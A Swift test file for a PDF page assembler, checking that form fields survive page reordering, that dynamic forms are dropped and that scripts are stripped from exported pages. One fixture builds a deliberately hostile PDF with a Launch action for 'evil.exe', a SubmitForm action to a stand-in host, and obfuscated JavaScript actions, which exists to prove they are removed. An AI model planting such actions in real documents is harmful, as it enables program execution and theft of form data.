// SPDX-License-Identifier: Apache-2.0

import Foundation
import Testing
import WorkspaceModel

@testable import WorkspaceMedia

@Suite("Forms and scripts of exported pages", .enabled(if: Corpus.isHere, "\(Corpus.missing)"))
struct FormTests {
    private struct Bench {
        let studio: Studio
        let assembler: Assembler

        init() async throws {
            studio = try await Studio()
            assembler = Assembler(runner: studio.runner, blobs: studio.blobs)
        }

        /// A field as qpdf reads it.
        struct Field: Hashable {
            let name: String
            let page: Int
            let value: String
        }

        func fields(_ path: String) async throws -> [Field] {
            let words = ["--json=2", "--json-key=acroform", path]
            let result = try await studio.runner.run(.qpdf, words, inputs: [path], in: studio.runner.folder())
            let json = try JSONValue.parse(result.output, limits: MediaImporter.json)
            return (json["acroform"]?["fields"]?.array ?? []).map { field in
                Field(
                    name: field["fullname"]?.string ?? "",
                    page: field["pageposfrom1"]?.number.map { Int($0) } ?? 0,
                    value: field["value"]?.string ?? ""
                )
            }
        }

        func fields(_ document: ImportedDocument) async throws -> [Field] {
            try await fields(studio.blobs.localPath(of: document.working.blob))
        }

        /// The file without compression, as text.
        func plain(_ file: AssembledFile) async throws -> String {
            let folder = try studio.runner.folder()
            let words = ["--qdf", "--object-streams=disable", file.path, folder.file("plain.pdf")]
            _ = try await studio.runner.run(.qpdf, words, inputs: [file.path], in: folder, limits: .assembly)
            return String(decoding: try SystemFiles.head(folder.file("plain.pdf"), limit: 1 << 26), as: UTF8.self)
        }
    }

    @Test(
        "all pages turned about: every field follows its page with its value",
        arguments: ["prefilled_f1040.pdf", "issue14023.pdf"]
    )
    func all(name: String) async throws {
        let bench = try await Bench()
        let source = try await bench.studio.corpus(name)
        let before = try await bench.fields(source)
        let count = source.pages.count
        #expect(before.count > 10)
        let pages = source.pages.reversed().map { AssemblyPage.page(source.working.blob, $0.number) }
        let file = try await bench.assembler.assemble(pages)
        let expected = before.map { Bench.Field(name: $0.name, page: count + 1 - $0.page, value: $0.value) }
        #expect(Set(try await bench.fields(file.path)) == Set(expected))
    }

    @Test("one page of two: its fields stay, those of the other are not in the file")
    func some() async throws {
        let bench = try await Bench()
        let source = try await bench.studio.corpus("prefilled_f1040.pdf")
        let before = try await bench.fields(source)
        let pages: [AssemblyPage] = [.page(source.working.blob, 2)]
        let file = try await bench.assembler.assemble(pages)
        let expected = before.filter { $0.page == 2 }.map { Bench.Field(name: $0.name, page: 1, value: $0.value) }
        #expect(Set(try await bench.fields(file.path)) == Set(expected))
        #expect(expected.count == 122)
    }

    @Test("fields of two files with equal names stay apart, and the report counts them")
    func mixed() async throws {
        let bench = try await Bench()
        let one = try await bench.studio.corpus("issue14307.pdf")
        let two = try await bench.studio.corpus("issue18561.pdf")
        let pages: [AssemblyPage] = [.page(one.working.blob, 1), .page(two.working.blob, 1)]
        let losses = try await bench.assembler.losses(of: pages).losses
        #expect(losses == [.renamedFields(2), .scripts])
        let file = try await bench.assembler.assemble(pages)
        let fields = try await bench.fields(file.path)
        #expect(fields.map(\.name).sorted() == ["Text1", "Text1+1", "Text2", "Text2+1", "Text3", "Text4"])
        #expect(fields.first { $0.name == "Text3" }?.value == "u:100")
    }

    @Test("a dynamic form is left out with a sentence, its fields stay", arguments: [true, false])
    func dynamic(isIndirect: Bool) async throws {
        let bench = try await Bench()
        let form = "<< /Fields [5 0 R] /XFA [(template) 6 0 R] >>"
        var maker = PDFMaker()
        maker.objects = [
            "<< /Type /Catalog /Pages 2 0 R /AcroForm \(isIndirect ? "4 0 R" : form) >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 100 100] >>",
            "<< /Type /Page /Parent 2 0 R /Annots [5 0 R] >>",
            isIndirect ? form : "null",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /V (Ada) /Rect [0 0 50 20] >>",
            "<< /Length 4 >>\nstream\n<a/>\nendstream",
        ]
        let source = try await bench.studio.document(maker.bytes())
        let pages: [AssemblyPage] = [.page(source.working.blob, 1)]
        #expect(try await bench.assembler.losses(of: pages).losses == [.dynamicForm])
        let file = try await bench.assembler.assemble(pages)
        #expect(!(try await bench.plain(file)).contains("/XFA"))
        #expect(try await bench.fields(file.path) == [Bench.Field(name: "Name", page: 1, value: "u:Ada")])
    }

    /// A page with a button, a link and a field that start programs, send the form and run scripts: written in place, by
    /// reference, behind another action and behind a reference to the kind.
    private func hostile() -> [UInt8] {
        var maker = PDFMaker()
        maker.objects = [
            "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R 6 0 R] >> >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 100 100] >>",
            "<< /Type /Page /Parent 2 0 R /Annots [4 0 R 5 0 R 6 0 R] /AA << /O 7 0 R >> >>",
            """
            << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) \
            /Next [<< /S /Launch /F (evil.exe) >>] >> >>
            """,
            """
            << /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) /Rect [9 9 20 20] \
            /A << /S /SubmitForm /F (https://evil.example) >> >>
            """,
            """
            << /Type /Annot /Subtype /Widget /FT /Tx /T (Sum) /V (3) /Rect [30 30 40 40] \
            /AA << /C << /S 8 0 R /JS (evil) >> /K 7 0 R >> >>
            """,
            "<< /S /Java#53cript /JS (app.evil\\(\\)) >>", "/JavaScript",
        ]
        return maker.bytes()
    }

    @Test(
        "scripts, programs and sending are taken out of fields and links, of the main source and of others",
        arguments: [true, false]
    )
    func scripts(isMain: Bool) async throws {
        let bench = try await Bench()
        let source = try await bench.studio.document(hostile())
        let other = try await bench.studio.document(PDFMaker.pages(3))
        var pages: [AssemblyPage] = [.page(source.working.blob, 1)]
        if !isMain { pages += (1...3).map { .page(other.working.blob, $0) } }
        #expect(try await bench.assembler.losses(of: pages).losses == [.scripts])
        let file = try await bench.assembler.assemble(pages)
        let text = try await bench.plain(file)
        for word in ["evil", "/Launch", "/SubmitForm"] { #expect(!text.contains(word), "\(word)") }
        #expect(text.contains("https://example.org"))
        #expect(try await bench.fields(file.path).map(\.name).sorted() == ["Send", "Sum"])
        #expect(try await bench.fields(file.path).contains { $0.value == "u:3" })
        let again = try await bench.studio.document(Array(try Data(contentsOf: URL(fileURLWithPath: file.path))))
        #expect(again.notes == [])
    }

    @Test("every loss is a sentence")
    func sentences() {
        let losses: [Loss] = [
            .bookmarks(1), .bookmarks(2), .bookmarksElsewhere(1), .bookmarksElsewhere(2), .headings(1), .headings(2),
            .links(1), .links(2), .layers(1), .layers(2), .readingOrder, .scripts, .renamedFields(1), .renamedFields(2),
            .dynamicForm, .signatures,
            .unknown,
        ]
        #expect(losses.allSatisfy { $0.sentence.hasSuffix(".") && !$0.sentence.contains("  ") })
        #expect(Loss.bookmarksElsewhere(1).sentence == "1 bookmark that leads out of the document is left out.")
    }
}
